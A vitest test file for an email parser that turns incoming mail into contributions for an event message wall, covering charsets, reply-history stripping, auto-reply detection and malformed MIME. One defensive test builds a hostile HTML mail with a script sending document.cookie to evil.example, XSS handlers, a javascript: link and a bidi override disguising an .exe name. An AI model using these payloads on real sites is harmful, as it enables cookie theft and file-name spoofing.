import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import MailComposer, { type MailComposerOptions } from 'nodemailer/lib/mail-composer';
import { describe, expect, it } from 'vitest';
import { normalizeText } from '../../server/domain/normalize.js';
import { MAX_IMAGES, parseEmail, parseHeaderBlock, toEmailContribution, type ParsedEmail } from '../../server/services/email.js';

const FIXTURES = new URL('../fixtures/eml/', import.meta.url);

function fixture(name: string): Buffer {
  return readFileSync(new URL(name, FIXTURES));
}

/** A real PNG: the screenshot that mailparser's base64encodedroot.eml carries as its only part. */
const PNG = Buffer.from(fixture('base64encodedroot.eml').toString('latin1').split(/\r?\n\r?\n/)[1]!, 'base64');
/** A minimal PDF document. */
const PDF = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');

/** Real MIME, as nodemailer writes it when a person sends from an ordinary program. */
function compose(mail: MailComposerOptions): Promise<Buffer> {
  return new MailComposer({
    from: 'Jeanne Dupont <jeanne@example.org>',
    to: 'mur@example.org',
    date: new Date('2025-06-02T10:04:00Z'),
    ...mail,
  })
    .compile()
    .build();
}

/** Bytes in windows-1252, which Node cannot encode: Latin-1 plus the few characters it puts at 0x80–0x9F. */
function windows1252(text: string): Buffer {
  const extra: Record<string, number> = { '€': 0x80, '…': 0x85, '‘': 0x91, '’': 0x92, '“': 0x93, '”': 0x94, 'œ': 0x9c, 'Œ': 0x8c };
  return Buffer.from(Array.from(text, (char) => extra[char] ?? char.charCodeAt(0)));
}

const BIDI = /[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/u;

describe('parseEmail on real captured messages (mailparser fixtures)', () => {
  it('flags the delivery-status bounce as a bounce report, so that it is never shown', async () => {
    const parsed = await parseEmail(fixture('delivery-status.eml'));
    expect(parsed.autoReason).toBe('bounce-report');
    expect(parsed.from).toEqual({ address: 'MAILER-DAEMON@amazonses.com' });
    expect(parsed.subject).toBe('Delivery Status Notification (Failure)');
    expect(parsed.images).toEqual([]);
  });

  it('reads nested.eml: the related text and the inline footer, without the HTML twins', async () => {
    const parsed = await parseEmail(fixture('nested.eml'));
    expect(parsed.text).toBe('Dear Sir,\n\nGood evening.\n\nThe footer');
    expect(parsed.from).toEqual({ address: 'u@example.com' });
    expect(parsed.autoReason).toBeNull();
    expect(parsed.hold).toEqual([]);
  });

  it('reads mixed.eml: the text after the antivirus banner, not its HTML alternative', async () => {
    const parsed = await parseEmail(fixture('mixed.eml'));
    expect(parsed.text).toBe('This e-mail message has been scanned for Viruses and Content and cleared\n\nGood Morning;');
    expect(parsed.text).not.toContain('<HR>');
    expect(parsed.from).toBeUndefined();
  });

  it('reads base64encodedroot.eml: no text, one PNG picture', async () => {
    const parsed = await parseEmail(fixture('base64encodedroot.eml'));
    expect(parsed.text).toBe('');
    expect(parsed.images).toHaveLength(1);
    expect(parsed.images[0]).toMatchObject({ contentType: 'image/png', filename: 'screenshot.png' });
    expect(parsed.images[0]!.content.subarray(0, 8)).toEqual(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]));
  });

  it('reads nodemailer.eml: decoded subject, text part, both embedded images and no text attachment', async () => {
    const parsed = await parseEmail(fixture('nodemailer.eml'));
    expect(parsed.messageId).toBe('<012d606e-3550-2d94-b566-6cd996de88e3@kreata.ee>');
    expect(parsed.from).toEqual({ name: 'Andris Kreata', address: 'andris@kreata.ee' });
    expect(parsed.subject).toBe('Nodemailer is unicode friendly ✔ (1476358788189)');
    expect(parsed.text).toBe('Hello to myself!');
    expect(parsed.images.map((image) => [image.contentType, image.filename])).toEqual([
      ['image/png', 'image.png'],
      ['image/gif', 'nyan cat ✔.gif'],
    ]);
    // Delivered-To, written by the receiving side, comes first; the To addresses follow, without repeats.
    expect(parsed.to).toEqual(['andris.reinman@gmail.com', 'andris+123@kreata.ee']);
    expect(parsed.date).toEqual(new Date('2016-10-13T11:39:48Z'));
  });

  it('reads spam.eml (HTML only, bogus boundary): plain text with entities decoded and no markup', async () => {
    const parsed = await parseEmail(fixture('spam.eml'));
    expect(parsed.subject).toBe('123.042 Euro pro Jahr GRARANTIERT von einer Bank! KOSTENLOS');
    expect(parsed.from).toEqual({ name: 'Matilda Klein', address: 'noreply@guide-des-vins-de-bourgogne.fr' });
    expect(parsed.text.startsWith('Im Jahre 2007 wurde er als „asozialer Penner“ beschimpft! Er bettelte auf der Straße und lebte unter der Brücke.\n\n')).toBe(true);
    expect(parsed.text).toContain('Verm\u00F6gen von 100 Millionen Euro!');
    expect(parsed.text).toContain('>>>VIDEO<<<');
    expect(parsed.text).not.toMatch(/<[a-z/]|&[a-z]+;|iqsbyx/i);
    expect(parsed.autoReason).toBeNull();
  });
});

describe('parseEmail on mail written by nodemailer', () => {
  it('reads a plain mail', async () => {
    const raw = await compose({ subject: 'Question pour le panel', text: 'Quelle place pour l’IA dans la com publique ?', messageId: '<q1@example.org>' });
    const parsed = await parseEmail(raw);
    expect(parsed).toMatchObject({
      messageId: '<q1@example.org>',
      from: { name: 'Jeanne Dupont', address: 'jeanne@example.org' },
      to: ['mur@example.org'],
      subject: 'Question pour le panel',
      text: 'Quelle place pour l’IA dans la com publique ?',
      images: [],
      autoReason: null,
      date: new Date('2025-06-02T10:04:00Z'),
      hold: [],
    });
    expect(parsed.rawSha256).toBe(createHash('sha256').update(raw).digest('hex'));
  });

  it('converts an HTML-only mail to text', async () => {
    const parsed = await parseEmail(
      await compose({ subject: 'Bravo', html: '<div>Bravo à <b>toute</b> l&#39;équipe&nbsp;!</div><div><br></div><div>Jeanne</div>' }),
    );
    expect(parsed.text).toBe('Bravo à toute l\'équipe\u00A0!\n\nJeanne');
  });

  it('keeps an image attachment and drops a PDF', async () => {
    const parsed = await parseEmail(
      await compose({
        subject: 'Photo de la plénière',
        text: 'La salle est pleine',
        attachments: [
          { filename: 'pleniere.png', content: PNG },
          { filename: 'programme.pdf', content: PDF },
        ],
      }),
    );
    expect(parsed.images).toHaveLength(1);
    expect(parsed.images[0]!.contentType).toBe('image/png');
    expect(parsed.images[0]!.filename).toBe('pleniere.png');
    expect(parsed.images[0]!.content.equals(PNG)).toBe(true);
    expect(parsed.text).toBe('La salle est pleine');
  });

  it(`keeps at most ${MAX_IMAGES} images`, async () => {
    const attachments = Array.from({ length: MAX_IMAGES + 5 }, (_, index) => ({ filename: `p${index}.png`, content: PNG }));
    const parsed = await parseEmail(await compose({ text: 'Album', attachments }));
    expect(parsed.images).toHaveLength(MAX_IMAGES);
  });

  it('drops the quoted history of a Gmail-style reply, in its text and in its HTML', async () => {
    const attribution = 'Le lun. 2 juin 2025 à 10:04, Toile <mur@example.org> a écrit :';
    const raw = await compose({
      subject: 'Re: Bienvenue au #capcomnet',
      text: `Merci, à tout à l’heure !\n\n${attribution}\n\n> Bienvenue au #capcomnet.\n> Écrivez à cette adresse pour apparaître sur le mur.\n`,
      html:
        '<div dir="ltr">Merci, à tout à l’heure !</div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">' +
        'Le lun. 2 juin 2025 à 10:04, Toile &lt;<a href="mailto:mur@example.org">mur@example.org</a>&gt; a écrit&nbsp;:<br></div>' +
        '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex">Bienvenue au #capcomnet.<br>Écrivez à cette adresse.</blockquote></div>',
    });
    const parsed = await parseEmail(raw);
    expect(parsed.text).toBe('Merci, à tout à l’heure !');
    expect(parsed.subject).toBe('Re: Bienvenue au #capcomnet');
  });

  it('drops the quoted history of an HTML-only Gmail reply', async () => {
    const parsed = await parseEmail(
      await compose({
        html:
          '<div dir="ltr">Top !</div><div class="gmail_quote"><div class="gmail_attr">On Mon, Jun 2, 2025 at 10:04 AM Toile &lt;mur@example.org&gt; wrote:<br></div>' +
          '<blockquote class="gmail_quote">Welcome</blockquote></div>',
      }),
    );
    expect(parsed.text).toBe('Top !');
  });

  it('drops the history and the mobile footer of a French Outlook reply', async () => {
    const raw = await compose({
      subject: 'RE: Bienvenue',
      text: [
        'Très belle intervention de la DG, bravo.',
        '',
        'Envoyé depuis Outlook pour iOS',
        '',
        '________________________________',
        'De : Toile <mur@example.org>',
        'Envoyé : lundi 2 juin 2025 10:04',
        'À : Jeanne Dupont <jeanne@example.org>',
        'Objet : Bienvenue',
        '',
        'Bienvenue au #capcomnet',
      ].join('\r\n'),
      html:
        '<div>Très belle intervention de la DG, bravo.</div><div><br></div><hr style="display:inline-block;width:98%">' +
        '<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif"><b>De :</b> Toile &lt;mur@example.org&gt;<br>' +
        '<b>Envoyé :</b> lundi 2 juin 2025 10:04<br><b>À :</b> Jeanne Dupont<br><b>Objet :</b> Bienvenue</font><div>&nbsp;</div></div>' +
        '<div>Bienvenue au #capcomnet</div>',
    });
    expect((await parseEmail(raw)).text).toBe('Très belle intervention de la DG, bravo.');
  });

  it('drops the history of an HTML-only Outlook reply', async () => {
    const parsed = await parseEmail(
      await compose({
        html:
          '<p>Merci !</p><hr><div id="divRplyFwdMsg"><b>De :</b> Toile &lt;mur@example.org&gt;<br><b>Envoyé :</b> lundi 2 juin 2025 10:04<br>' +
          '<b>Objet :</b> Bienvenue</div><div>Bienvenue au #capcomnet</div>',
      }),
    );
    expect(parsed.text).toBe('Merci !');
  });

  it('flags an auto-reply (Auto-Submitted: auto-replied)', async () => {
    const parsed = await parseEmail(
      await compose({ subject: 'Absence du bureau', text: 'Je suis absente jusqu’au 10 juin.', headers: { 'Auto-Submitted': 'auto-replied' } }),
    );
    expect(parsed.autoReason).toBe('auto-submitted');
    expect(parsed.text).toBe('Je suis absente jusqu’au 10 juin.');
  });

  it('flags a mail with Precedence: bulk', async () => {
    const parsed = await parseEmail(await compose({ text: 'Newsletter', headers: { Precedence: 'bulk' } }));
    expect(parsed.autoReason).toBe('bulk');
  });

  it('flags a mail with a List-Id', async () => {
    const parsed = await parseEmail(
      await compose({ text: 'To the list', headers: { 'List-Id': 'Capcomnet attendees <attendees.example.org>' } }),
    );
    expect(parsed.autoReason).toBe('mailing-list');
  });

  it('flags a bounce by its empty envelope sender when the intake gives it', async () => {
    const raw = await compose({ text: 'Hello' });
    expect((await parseEmail(raw, { envelopeFrom: '<>' })).autoReason).toBe('empty-envelope-sender');
    expect((await parseEmail(raw, { envelopeFrom: 'jeanne@example.org' })).autoReason).toBeNull();
  });

  it('decodes an ISO-8859-1 mail, subject included', async () => {
    const raw = await compose({
      headers: { Subject: { prepared: true, value: '=?ISO-8859-1?Q?R=E9union_pl=E9ni=E8re_=E0_9h?=' } },
      alternatives: [
        { content: Buffer.from('Rendez-vous à l\'étage, café crème et gâteaux offerts. Ça démarre à 9h !', 'latin1'), contentType: 'text/plain; charset=iso-8859-1' },
      ],
    });
    expect(raw.includes(Buffer.from('caf=E9 cr=E8me'))).toBe(true);
    const parsed = await parseEmail(raw);
    expect(parsed.subject).toBe('Réunion plénière à 9h');
    expect(parsed.text).toBe('Rendez-vous à l\'étage, café crème et gâteaux offerts. Ça démarre à 9h !');
  });

  it('decodes a windows-1252 mail, with the characters Latin-1 lacks', async () => {
    const raw = await compose({
      subject: 'Vente aux enchères',
      alternatives: [{ content: windows1252('L’œuvre part à 10 € … « déjà » vendue'), contentType: 'text/plain; charset=windows-1252' }],
    });
    expect((await parseEmail(raw)).text).toBe('L’œuvre part à 10 € … « déjà » vendue');
  });

  it('reads a hostile HTML mail as plain text only: no script, no markup, no bidi override, bounded', async () => {
    const megabyte = 'Lorem ipsum dolor sit amet. '.repeat(40_000);
    const html =
      '<html><head><style>body{display:none}</style><script>fetch("https://evil.example/"+document.cookie)</script></head><body>' +
      '<p>Bonjour \u202Egnp.exe\u202C <img src=x onerror=alert(1)> <a href="javascript:alert(2)">clic</a></p>' +
      `<p>${megabyte}</p><script>alert(3)</script><iframe src="https://evil.example"><p>frame</p></iframe></body></html>`;
    const started = performance.now();
    const parsed = await parseEmail(await compose({ subject: '<b>Hi</b>', html }));
    expect(performance.now() - started).toBeLessThan(5000);
    expect(parsed.text.startsWith('Bonjour \u202Egnp.exe\u202C clic\n\nLorem ipsum')).toBe(true);
    expect(parsed.text).not.toMatch(/<|alert|fetch|evil|frame|display:none/);
    expect(parsed.text.length).toBeLessThanOrEqual(100_000);
    expect(parsed.subject).toBe('<b>Hi</b>');
    // The contribution's text is normalized: the override that would show "exe.png" is gone.
    const contribution = toEmailContribution(parsed, { source: 'smtp' });
    expect(contribution.text).not.toMatch(BIDI);
    expect(contribution.text.startsWith('<b>Hi</b>\nBonjour gnp.exe clic\n\nLorem ipsum')).toBe(true);
    expect(normalizeText(contribution.text)).not.toMatch(BIDI);
  });

  it('reads a megabyte of plain text quickly and keeps its beginning', async () => {
    const text = `Début\n${'x'.repeat(1_000_000)}`;
    const started = performance.now();
    const parsed = await parseEmail(await compose({ text }));
    expect(performance.now() - started).toBeLessThan(5000);
    expect(parsed.text.startsWith('Début\nxxx')).toBe(true);
    expect(parsed.text.length).toBeLessThanOrEqual(100_000);
  });
});

describe('parseEmail never throws on malformed mail', () => {
  it('reads what there is of a truncated message', async () => {
    const raw = await compose({ subject: 'Coupé', text: 'Le début arrive bien', attachments: [{ filename: 'p.png', content: PNG }] });
    const cut = raw.subarray(0, raw.indexOf(Buffer.from('Content-Type: image/png')) + 40);
    const parsed = await parseEmail(cut);
    expect(parsed.subject).toBe('Coupé');
    expect(parsed.text).toBe('Le début arrive bien');
  });

  it('reads a message cut inside its headers', async () => {
    const raw = await compose({ subject: 'Coupé', text: 'Jamais lu' });
    const parsed = await parseEmail(raw.subarray(0, raw.indexOf(Buffer.from('Subject')) + 8));
    expect(parsed.from).toEqual({ name: 'Jeanne Dupont', address: 'jeanne@example.org' });
    expect(parsed.text).toBe('');
  });

  it('decodes a body in an unknown charset as UTF-8 where it is, else as windows-1252', async () => {
    const latin = await compose({
      alternatives: [{ content: Buffer.from('Café crème', 'latin1'), contentType: 'text/plain; charset=x-unknown' }],
    });
    expect((await parseEmail(latin)).text).toBe('Café crème');
    const utf8 = await compose({
      alternatives: [{ content: Buffer.from('Café crème ☕', 'utf8'), contentType: 'text/plain; charset=x-unknown' }],
    });
    expect((await parseEmail(utf8)).text).toBe('Café crème ☕');
    const smart = await compose({
      alternatives: [{ content: windows1252('L’œuvre à 10 €'), contentType: 'text/plain; charset=x-unknown' }],
    });
    expect((await parseEmail(smart)).text).toBe('L’œuvre à 10 €');
  });

  it('decodes an encoded word in an unknown charset', async () => {
    const raw = await compose({ headers: { Subject: { prepared: true, value: '=?x-unknown?Q?Caf=E9_cr=E8me?=' } }, text: 'ok' });
    expect((await parseEmail(raw)).subject).toBe('Café crème');
  });

  it('reads UTF-8 labelled as Latin-1 as the UTF-8 it is', async () => {
    const raw = await compose({
      alternatives: [{ content: Buffer.from('Déjà vu', 'utf8'), contentType: 'text/plain; charset=iso-8859-1' }],
    });
    expect((await parseEmail(raw)).text).toBe('Déjà vu');
  });

  it('reads a multipart whose closing boundary never comes', async () => {
    const raw = (await compose({ text: 'Texte brut', html: '<p>Texte HTML</p>' })).toString('utf8');
    const unclosed = raw.replace(/\r\n--[^\r\n]+--\r\n?$/, '\r\n');
    expect(unclosed).not.toBe(raw);
    expect((await parseEmail(unclosed)).text).toBe('Texte brut');
  });

  it('reads 8-bit Latin-1 and UTF-8 bytes in headers, even mixed on one line', async () => {
    const raw = await compose({ subject: 'SUBJECT-PLACEHOLDER', text: 'corps' });
    const head = Buffer.concat([Buffer.from('R\xe9union \xc3\xa0 midi', 'latin1')]);
    const bytes = Buffer.concat([
      raw.subarray(0, raw.indexOf('SUBJECT-PLACEHOLDER')),
      head,
      raw.subarray(raw.indexOf('SUBJECT-PLACEHOLDER') + 'SUBJECT-PLACEHOLDER'.length),
    ]);
    const withName = Buffer.concat([Buffer.from('From: Andr\xc3\xa9 M\xfcller <andre@example.org>\r\n', 'latin1'), bytes.subarray(bytes.indexOf('To:'))]);
    const parsed = await parseEmail(withName);
    expect(parsed.subject).toBe('Réunion à midi');
    expect(parsed.from).toEqual({ name: 'André Müller', address: 'andre@example.org' });
    expect(parsed.text).toBe('corps');
  });

  it.each([
    ['nothing', ''],
    ['only a body', 'just some text\nwithout headers'],
    ['binary junk', Buffer.from([0, 1, 2, 0xff, 0xfe, 0x0a, 0x0d, 0x0a, 0x00])],
  ])('returns an empty but valid result for %s', async (_what, raw) => {
    const parsed = await parseEmail(raw);
    expect(parsed.to).toEqual([]);
    expect(Array.isArray(parsed.images)).toBe(true);
    expect(typeof parsed.text).toBe('string');
    expect(parsed.rawSha256).toMatch(/^[a-f0-9]{64}$/);
  });

  it('re-reads from its raw bytes a message the parser refuses (too many parts), for a moderator', async () => {
    const parts = Array.from({ length: 1200 }, (_, index) => `--B\r\nContent-Type: text/plain\r\n\r\npart ${index}\r\n`).join('');
    const raw = `From: Jeanne <jeanne@example.org>\r\nSubject: =?UTF-8?Q?Beaucoup_de_parties_=E2=9C=94?=\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n${parts}--B--\r\n`;
    const parsed = await parseEmail(raw);
    expect(parsed.hold).toEqual(['malformed-mime']);
    expect(parsed.subject).toBe('Beaucoup de parties ✔');
    expect(parsed.from).toEqual({ name: 'Jeanne', address: 'jeanne@example.org' });
    expect(parsed.text.startsWith('part 0\npart 1\n')).toBe(true);
    expect(parsed.text).not.toContain('Content-Type');
  });

  it('re-reads a message whose header block is over the parser\'s limit', async () => {
    const raw = `From: jeanne@example.org\r\nSubject: Gros en-tête\r\nX-Junk: ${'a'.repeat(1_200_000)}\r\nContent-Type: text/html\r\n\r\n<p>Le texte</p>`;
    const parsed = await parseEmail(raw);
    expect(parsed.hold).toEqual(['malformed-mime']);
    expect(parsed.subject).toBe('Gros en-tête');
    expect(parsed.text).toBe('Le texte');
  });
});

describe('parseHeaderBlock', () => {
  it('splits and unfolds header lines, skipping what is not a header', () => {
    expect(parseHeaderBlock('Subject: a\r\n b\r\nnot a header\r\nX-A:1\n\tcontinued')).toEqual([
      ['Subject', 'a b'],
      ['X-A', '1 continued'],
    ]);
  });
});

describe('toEmailContribution', () => {
  async function parsedMail(mail: MailComposerOptions): Promise<ParsedEmail> {
    return parseEmail(await compose(mail));
  }

  it('maps a mail to an email contribution for the ingest pipeline', async () => {
    const parsed = await parsedMail({ subject: 'Re: Question pour le panel', text: 'Et la sobriété numérique ?', messageId: '<q2@example.org>' });
    expect(toEmailContribution(parsed, { source: 'smtp' })).toEqual({
      channel: 'email',
      source: 'smtp',
      providerMessageId: '<q2@example.org>',
      to: 'mur@example.org',
      author: { name: 'Jeanne Dupont', address: 'jeanne@example.org', addressKind: 'email' },
      text: 'Question pour le panel\nEt la sobriété numérique ?',
      createdAt: new Date('2025-06-02T10:04:00Z'),
    });
  });

  it('prefers the provider\'s message id, then the Message-ID, then the hash of the raw message', async () => {
    const parsed = await parsedMail({ text: 'x', messageId: '<m@example.org>' });
    expect(toEmailContribution(parsed, { source: 'mailgun', providerMessageId: 'mg-123' }).providerMessageId).toBe('mg-123');
    expect(toEmailContribution(parsed, { source: 'mailgun' }).providerMessageId).toBe('<m@example.org>');
    const raw = Buffer.from('From: jeanne@example.org\r\nTo: mur@example.org\r\n\r\nSans Message-ID\r\n');
    const anonymous = await parseEmail(raw);
    expect(toEmailContribution(anonymous, { source: 'smtp' }).providerMessageId).toBe(
      `sha256:${createHash('sha256').update(raw).digest('hex')}`,
    );
  });

  it('stores an overlong Message-ID as its hash', async () => {
    const id = `<${'a'.repeat(400)}@example.org>`;
    const parsed = await parseEmail(`From: jeanne@example.org\r\nMessage-ID: ${id}\r\n\r\nx`);
    expect(toEmailContribution(parsed, { source: 'smtp' }).providerMessageId).toBe(`sha256:${createHash('sha256').update(id).digest('hex')}`);
  });

  it('sends it to the envelope recipient, else to the first recipient that is not the sender', async () => {
    const parsed = await parsedMail({ to: 'Jeanne Dupont <JEANNE@example.org>, mur@example.org', cc: 'ami@example.net', text: 'x' });
    expect(parsed.to).toEqual(['JEANNE@example.org', 'mur@example.org', 'ami@example.net']);
    expect(toEmailContribution(parsed, { source: 'smtp' }).to).toBe('mur@example.org');
    expect(toEmailContribution(parsed, { source: 'smtp', envelopeTo: 'questions@example.org' }).to).toBe('questions@example.org');
  });

  it('takes the envelope sender as the address when the mail has no From', async () => {
    const parsed = await parseEmail('To: mur@example.org\r\nSubject: Anonyme\r\n\r\nSans expéditeur');
    const contribution = toEmailContribution(parsed, { source: 'sendgrid', envelopeFrom: '<bounce+x@example.org>' });
    expect(contribution.author).toEqual({ address: 'bounce+x@example.org', addressKind: 'email' });
    expect(contribution.text).toBe('Anonyme\nSans expéditeur');
  });

  it('gives the body alone for a generic subject, and the subject alone for an empty body', async () => {
    expect(toEmailContribution(await parsedMail({ subject: 'Message', text: 'Bravo !' }), { source: 'smtp' }).text).toBe('Bravo !');
    expect(toEmailContribution(await parsedMail({ subject: 'Fwd: Vive le #capcomnet' }), { source: 'smtp' }).text).toBe('Vive le #capcomnet');
  });

  it('combines the subject and the body of a real capture', async () => {
    const contribution = toEmailContribution(await parseEmail(fixture('nodemailer.eml')), { source: 'smtp' });
    expect(contribution.text).toBe('Nodemailer is unicode friendly ✔ (1476358788189)\nHello to myself!');
    expect(contribution.to).toBe('andris.reinman@gmail.com');
  });
});
